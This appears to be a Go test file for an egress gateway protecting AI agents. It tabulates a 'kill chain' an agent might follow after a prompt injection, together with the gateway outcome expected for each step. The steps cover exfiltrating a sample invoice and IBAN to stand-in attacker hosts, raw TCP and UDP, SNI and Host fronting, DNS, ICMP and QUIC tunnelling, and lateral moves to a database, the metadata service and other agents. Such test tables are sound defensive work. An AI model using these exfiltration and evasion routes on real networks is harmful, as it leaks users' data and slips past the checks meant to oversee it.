package killchain

import (
	"net/netip"
	"slices"

	"github.com/bulkhead-dev/bulkhead/gateway/audit"
	"github.com/bulkhead-dev/bulkhead/gateway/policy"
	"github.com/bulkhead-dev/bulkhead/tests/lab"
)

// loot is what the agent has been talked into giving away.
const loot = "invoice 4711, IBAN DE02 1203 0000 0000 2020 51"

func tcp(a netip.Addr, port uint16, host string) flow {
	return flow{dst: netip.AddrPortFrom(a, port), proto: policy.TCP, host: host}
}

func udp(a netip.Addr, port uint16) flow {
	return flow{dst: netip.AddrPortFrom(a, port), proto: policy.UDP}
}

func question(name string) flow { return flow{class: audit.DNSActivity, host: name} }

// steps is the chain: first what the agent is for, then what the injected prompt
// asks of it. What the network itself delivers or drops is not the gateway's to refuse.
func steps(n *lab.Network) []step {
	gateway, other := n.NextHop, n.Machine(lab.ResearchAgent)
	tunnel, past := "mfrggzdfmzta.t."+lab.AttackerDomain, "past.t."+lab.AttackerDomain
	around := func(dst netip.Addr, proto policy.Proto, port uint16) Outcome {
		switch {
		case n.Closed(dst, proto, port):
			return Closed
		case n.Next(dst).Way == lab.Via:
			return Refused
		}
		return Direct
	}
	chain := []step{
		// What it is for.
		{"approved tool call", "GET https://" + lab.ToolName, Works, get("https://" + lab.ToolName + "/user"), tcp(lab.GitHub, 443, lab.ToolName)},
		{"approved package download", "GET http://" + lab.MirrorName, Works, get("http://" + lab.MirrorName + "/simple/"), tcp(lab.Mirror, 80, lab.MirrorName)},
		{"model call, private endpoint", "GET https://" + lab.OpenAIName, Direct, get("https://" + lab.OpenAIName + "/"), tcp(lab.OpenAI, 443, "")},
		{"watched, not yet refused", "POST https://" + lab.GistName, Detected, post("https://"+lab.GistName+"/gists", loot), tcp(lab.Gist, 443, lab.GistName)},

		// Call home.
		{"known bad address", "TCP " + lab.Malicious.String() + ":443", Refused, connect(lab.Malicious, 443), tcp(lab.Malicious, 443, "")},

		// Exfiltrate, by the front door.
		{"exfiltrate by name", "POST https://" + lab.ExfilName, Refused, post("https://"+lab.ExfilName+"/drop", loot), question(lab.ExfilName)},
		{"exfiltrate by address", "POST https://" + lab.Exfil.String(), Refused, connect(lab.Exfil, 443), tcp(lab.Exfil, 443, "")},
		{"raw TCP", "TCP " + lab.Exfil.String() + ":4444", Refused, connect(lab.Exfil, 4444), tcp(lab.Exfil, 4444, "")},
		{"raw UDP", "UDP " + lab.Exfil.String() + ":4444", Refused, datagram(lab.Exfil, 4444), udp(lab.Exfil, 4444)},

		// Exfiltrate, behind a name or an address that is permitted.
		{"permitted SNI, other address", "SNI " + lab.ToolName + " at " + lab.Exfil.String(), Refused, hello(lab.Exfil, lab.ToolName), tcp(lab.Exfil, 443, "")},
		{"permitted address, other SNI", "SNI " + lab.ExfilName + " at " + lab.GitHub.String(), Refused, hello(lab.GitHub, lab.ExfilName), tcp(lab.GitHub, 443, lab.ExfilName)},
		{"permitted address, other Host", "Host " + lab.ExfilName + " at " + lab.Mirror.String(), Refused, fronted(lab.Mirror, lab.ExfilName), tcp(lab.Mirror, 80, lab.ExfilName)},

		// Exfiltrate through what is not looked at.
		{"DNS tunnelling", "A " + tunnel, Refused, resolve(tunnel), question(tunnel)},
		{"another resolver, UDP", "A c2." + lab.AttackerDomain + " at " + lab.Exfil.String(), Refused, lookup(lab.MaliciousName, lab.Exfil), question(lab.MaliciousName)},
		{"another resolver, TCP", "A www." + lab.AttackerDomain + " at " + lab.Exfil.String(), Refused, lookupTCP("www."+lab.AttackerDomain, lab.Exfil), question("www." + lab.AttackerDomain)},
		{"DNS over TLS", "TCP " + lab.Exfil.String() + ":853", Refused, connect(lab.Exfil, 853), tcp(lab.Exfil, 853, "")},
		{"QUIC to a permitted address", "UDP " + lab.GitHub.String() + ":443", Refused, datagram(lab.GitHub, 443), udp(lab.GitHub, 443)},
		{"ICMP tunnel", "echo request to " + lab.Exfil.String(), Refused, ping(lab.Exfil), flow{dst: netip.AddrPortFrom(lab.Exfil, 0), proto: policy.ICMP}},

		// Move sideways.
		{"database next door", "TCP " + lab.DatabaseIP.String() + ":5432", Refused, postgres(lab.DatabaseIP), tcp(lab.DatabaseIP, 5432, "")},
		{"the gateway's admin port", "TCP " + gateway.String() + ":9180", Refused, connect(gateway, 9180), tcp(gateway, 9180, "")},
		{"wire server", "GET http://" + lab.WireServer.String(), around(lab.WireServer, policy.TCP, 80), get("http://" + lab.WireServer.String() + "/"), tcp(lab.WireServer, 80, "")},
		{"metadata service", "GET http://" + lab.Metadata.String(), around(lab.Metadata, policy.TCP, 80), get("http://" + lab.Metadata.String() + "/"), tcp(lab.Metadata, 80, "")},
		{"another agent, same subnet", "GET http://" + other.String(), around(other, policy.TCP, 80), get("http://" + other.String() + "/"), tcp(other, 80, "")},
		{"Azure's own resolver", "A " + past + " at " + lab.WireServer.String(), around(lab.WireServer, policy.UDP, 53), lookup(past, lab.WireServer), udp(lab.WireServer, 53)},
	}
	return slices.DeleteFunc(chain, func(s step) bool {
		return s.flow.dst.Addr() == lab.OpenAI && !n.Machine(lab.PrivateEndpoints).IsValid()
	})
}
